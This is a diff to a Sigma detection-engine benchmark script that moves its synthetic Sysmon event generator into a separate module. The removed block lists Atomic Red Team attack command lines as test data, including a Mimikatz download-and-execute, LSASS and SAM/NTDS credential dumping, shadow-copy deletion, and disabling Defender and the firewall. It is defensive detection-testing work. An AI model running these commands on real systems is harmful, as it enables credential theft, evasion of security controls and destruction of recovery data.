@@ -8,9 +8,7 @@
 // SIGMA_BENCH_ATOMIC: Atomic-style events (default 50,000); SIGMA_BENCH_WRITE: also keep them in this
 // NDJSON file; SIGMA_BENCH_CLI=0: skip the CLI runs. Times are CPU time of this single-threaded
 // process (best of SIGMA_BENCH_PASSES): on a shared machine wall time mostly measures the neighbours.
-// Over 300 lines by design: mostly data (the Atomic Red Team command lines), one benchmark.
 import {spawnSync} from 'node:child_process';
-import {createHash} from 'node:crypto';
 import {mkdtempSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs';
 import {tmpdir} from 'node:os';
 import {dirname, join, resolve} from 'node:path';
@@ -18,6 +16,7 @@ import {fileURLToPath} from 'node:url';
 import {decodeRecord} from '../dist/source/core/formats/index.js';
 import {loadRules} from '../dist/source/core/rules/index.js';
 import {generateDemoRecords} from '../dist/source/core/demo/index.js';
+import {atomicSysmonLines} from './e2e/sysmon-atomic.js';
 
 const here = dirname(fileURLToPath(import.meta.url));
 const RULES = resolve(here, '..', process.env.EDRTAIL_SIGMA_RULES || '../shared/sigma/rules');
@@ -38,179 +37,6 @@ const cpuMs = () => {
 	const u = process.cpuUsage();
 	return (u.user + u.system) / 1000;
 };
-
-// ---- Atomic-style Sysmon process creation: the demo's Windows process creations (benign noise
-// and its Atomic runs) mixed with a fifth of Atomic Red Team command lines, on varied parents,
-// users, hosts and hashes; flat Sysmon JSON as Atomic Red Team's sample logs write it (~900 bytes).
-
-let seed = 12345;
-const rnd = () => (seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) / 2 ** 32;
-const pick = list => list[Math.floor(rnd() * list.length)];
-const S32 = 'C:\\Windows\\System32';
-const PS = `${S32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
-const RAW = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics';
-const ATOMICS = [
-	[`${S32}\\regsvr32.exe`, `regsvr32.exe /s /u /i:${RAW}/T1218.010/src/RegSvr32.sct scrobj.dll`],
-	[
-		`${S32}\\bitsadmin.exe`,
-		`bitsadmin.exe /transfer /Download /priority Foreground ${RAW}/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1`,
-	],
-	[`${S32}\\certutil.exe`, `certutil.exe -urlcache -split -f ${RAW}/T1105/T1105.yaml Atomic-license.txt`],
-	[`${S32}\\vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'],
-	[`${S32}\\wbem\\WMIC.exe`, 'wmic.exe shadowcopy delete'],
-	[`${S32}\\bcdedit.exe`, 'bcdedit.exe /set {default} recoveryenabled no'],
-	[
-		`${S32}\\rundll32.exe`,
-		'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
-	],
-	[
-		`${S32}\\reg.exe`,
-		'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Atomic /t REG_SZ /d "C:\\Path\\AtomicRedTeam.exe" /f',
-	],
-	[`${S32}\\reg.exe`, 'reg save HKLM\\sam %temp%\\sam'],
-	[`${S32}\\reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'],
-	[`${S32}\\schtasks.exe`, 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"'],
-	[`${S32}\\net.exe`, 'net user /add T1136.001_Admin T1136_pass'],
-	[`${S32}\\net1.exe`, 'C:\\Windows\\system32\\net1 localgroup administrators T1136.001_Admin /add'],
-	[`${S32}\\whoami.exe`, 'whoami /all'],
-	[`${S32}\\nltest.exe`, 'nltest /domain_trusts /all_trusts'],
-	[`${S32}\\mshta.exe`, `mshta.exe javascript:a=(GetObject('script:${RAW}/T1218.005/src/mshta.sct')).Exec();close();`],
-	[
-		PS,
-		'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/PowerShellMafia/PowerSploit/master/Exfiltration/Invoke-Mimikatz.ps1\'); Invoke-Mimikatz -DumpCreds"',
-	],
-	[PS, 'powershell.exe -e JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA=='],
-	[PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'],
-	[PS, '"powershell.exe" & {Get-Process lsass | Out-Minidump -DumpFilePath $env:TEMP}'],
-	[
-		`${S32}\\cmd.exe`,
-		'cmd.exe /c "C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp"',
-	],
-	[`${S32}\\cmd.exe`, 'cmd.exe /c wevtutil cl System'],
-	[`${S32}\\cmd.exe`, 'cmd.exe /c "ping -n 1 127.0.0.1 > nul & del /f /q %temp%\\T1070.004.txt"'],
-	[
-		'C:\\AtomicRedTeam\\atomics\\T1003.001\\bin\\procdump.exe',
-		'procdump.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp',
-	],
-	['C:\\Users\\Public\\mimikatz.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
-	[
-		`${S32}\\sc.exe`,
-		'sc.exe create AtomicService binPath= "C:\\AtomicRedTeam\\atomics\\T1543.003\\bin\\AtomicService.exe"',
-	],
-	[`${S32}\\netsh.exe`, 'netsh advfirewall set currentprofile state off'],
-	[`${S32}\\attrib.exe`, 'attrib.exe +h C:\\Users\\Public\\T1564.001.txt'],
-	[`${S32}\\fsutil.exe`, 'fsutil usn deletejournal /D C:'],
-	[`${S32}\\wbem\\WMIC.exe`, 'wmic /node:localhost process call create "cmd.exe /c calc.exe"'],
-	[`${S32}\\msiexec.exe`, `msiexec.exe /q /i ${RAW}/T1218.007/bin/T1218.007_JScript.msi`],
-	[`${S32}\\cscript.exe`, 'cscript.exe //nologo C:\\AtomicRedTeam\\atomics\\T1059.005\\src\\sys_info.vbs'],
-	[`${S32}\\tasklist.exe`, 'tasklist /v /fi "imagename eq lsass.exe"'],
-	[`${S32}\\quser.exe`, 'quser /SERVER:localhost'],
-	[`${S32}\\ipconfig.exe`, 'ipconfig /all'],
-	[`${S32}\\systeminfo.exe`, 'systeminfo'],
-	[`${S32}\\esentutl.exe`, 'esentutl.exe /y /vss C:\\Windows\\NTDS\\NTDS.dit /d C:\\Windows\\Temp\\ntds.dit'],
-	[`${S32}\\ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ntds" q q'],
-	[`${S32}\\forfiles.exe`, 'forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe'],
-	[`${S32}\\wscript.exe`, 'wscript.exe C:\\Users\\Public\\T1059.007.js'],
-];
-const WINWORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
-const PARENTS = [
-	[PS, `"${PS}" `],
-	[`${S32}\\cmd.exe`, 'cmd.exe /c'],
-	['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
-	[WINWORD, `"${WINWORD}" /n "C:\\Users\\x\\Downloads\\invoice.docm"`],
-	[`${S32}\\wbem\\WmiPrvSE.exe`, 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding'],
-	[`${S32}\\svchost.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
-];
-const USERS = [
-	'CORP\\alice',
-	'CORP\\bob.admin',
-	'NT AUTHORITY\\SYSTEM',
-	'WS-FIN-01\\Administrator',
-	'CORP\\svc_backup',
-];
-const HOSTS = ['WS-FIN-01.corp.example', 'WS-HR-07.corp.example', 'SRV-DC-01.corp.example', 'WS-DEV-12.corp.example'];
-const hex = (alg, text) => createHash(alg).update(text).digest('hex').toUpperCase();
-
-/** The fields of a Sysmon event 1 as the flat JSON shape spells them. */
-function flat(o) {
-	const keys = [
-		'Computer',
-		'UtcTime',
-		'ProcessId',
-		'Image',
-		'FileVersion',
-		'Description',
-		'Product',
-		'Company',
-		'OriginalFileName',
-		'CommandLine',
-		'CurrentDirectory',
-		'User',
-		'LogonId',
-		'IntegrityLevel',
-		'Hashes',
-		'ParentProcessId',
-		'ParentImage',
-		'ParentCommandLine',
-		'ParentUser',
-	];
-	const out = {EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational'};
-	for (const k of keys) if (o[k] !== undefined) out[k] = o[k];
-	return out;
-}
-
-export function atomicProcessCreation(count) {
-	const demo = [];
-	for (let s = 1; demo.length < count; s++) {
-		for (const r of generateDemoRecords(Math.max(20_000, count), {format: 'sysmon', seed: s})) {
-			for (const line of r.value.toString().split('\n')) {
-				if (!line) continue;
-				const o = JSON.parse(line);
-				const sys = o.Event?.System;
-				if (sys?.EventID !== 1 || !sys.Channel.startsWith('Microsoft')) continue;
-				demo.push(flat({Computer: sys.Computer, ...o.Event.EventData}));
-			}
-		}
-	}
-	const lines = [];
-	let di = 0;
-	let t = Date.UTC(2024, 5, 12, 9);
-	while (lines.length < count) {
-		t += 7;
-		if (rnd() < 0.8) {
-			lines.push(JSON.stringify(demo[di++]));
-			continue;
-		}
-		const [image, cmd] = pick(ATOMICS);
-		const [parentImage, parentCmd] = pick(PARENTS);
-		const user = pick(USERS);
-		const name = image.slice(image.lastIndexOf('\\') + 1);
-		const hashed = image + (rnd() < 0.3 ? rnd() : '');
-		const event = {
-			Computer: pick(HOSTS),
-			UtcTime: new Date(t).toISOString().replace('T', ' ').slice(0, 23),
-			ProcessId: 1000 + Math.floor(rnd() * 60000),
-			Image: image,
-			FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
-			Description: name.replace('.exe', ''),
-			Product: 'Microsoft® Windows® Operating System',
-			Company: 'Microsoft Corporation',
-			OriginalFileName: name,
-			CommandLine: cmd,
-			CurrentDirectory: rnd() < 0.5 ? 'C:\\AtomicRedTeam\\' : `C:\\Users\\${user.split('\\')[1]}\\`,
-			User: user,
-			LogonId: `0x${Math.floor(rnd() * 1e7).toString(16)}`,
-			IntegrityLevel: pick(['High', 'Medium', 'System']),
-			Hashes: `SHA1=${hex('sha1', hashed)},MD5=${hex('md5', hashed)},SHA256=${hex('sha256', hashed)}`,
-			ParentProcessId: 1000 + Math.floor(rnd() * 60000),
-			ParentImage: parentImage,
-			ParentCommandLine: parentCmd,
-			ParentUser: user,
-		};
-		lines.push(JSON.stringify(flat(event)));
-	}
-	return lines;
-}
 
 // ---- per route
 
@@ -314,7 +140,8 @@ console.log(
 console.log("decode/s, +rules/s: decode alone and decode + rules per record; rules/s: the rules' share of that;");
 console.log("warm/s: the rules alone on pre-decoded events (caches warm with the engine's tables). CPU time.");
 header();
-const atomic = atomicProcessCreation(ATOMIC);
+// The Atomic-style Sysmon lines the file benchmark (bench/e2e-file.js) reads too.
+const atomic = [...(await atomicSysmonLines(ATOMIC)).lines];
 const atomicRecs = atomic.map(l => ({value: Buffer.from(l), receivedAt: 0, origin: 'file'}));
 measure('atomic-style sysmon process_creation', atomicRecs, 'sysmon');
 for (const format of ['sysmon', 's1-dv', 's1-cf2']) {
